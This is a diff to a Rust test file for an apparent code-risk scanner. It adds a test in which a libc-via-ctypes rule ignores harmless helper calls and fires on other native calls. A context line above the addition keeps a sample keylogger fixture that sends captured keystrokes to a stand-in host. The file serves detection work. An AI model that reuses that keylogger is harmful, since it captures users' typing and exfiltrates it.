@@ -278,3 +278,18 @@ fn scanners_tunnels_crontabs_and_log_shippers() {
         "import requests\nfrom pynput import keyboard\nkeys = []\ndef on_press(k):\n    keys.append(str(k))\n    if len(keys) > 50:\n        requests.post('https://typing.example.net/batch', json=keys)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
     );
 }
+
+#[test]
+fn libc_through_ctypes_is_high_unless_only_its_helpers_are_called() {
+    let helpers = "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.strlen.restype = ctypes.c_size_t\nCMP = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(ctypes.c_int), ctypes.POINTER(ctypes.c_int))\narr = (ctypes.c_int * 3)(3, 1, 2)\nlibc.qsort(arr, 3, ctypes.sizeof(ctypes.c_int), CMP(lambda a, b: a[0] - b[0]))\nprint(libc.strlen(b'hello'), libc.abs(-4), list(arr))\n";
+    silent("CRD206", helpers);
+    level(Level::Low, helpers);
+    // Anything else, a name not known, or a handle loaded and never seen called.
+    for native in [
+        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint(libc.strlen(b'x'), libc.getuid())\n",
+        "import ctypes, sys\nlibc = ctypes.CDLL('libc.so.6')\nprint(getattr(libc, sys.argv[1])())\n",
+        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n",
+    ] {
+        fires("CRD206", native);
+    }
+}
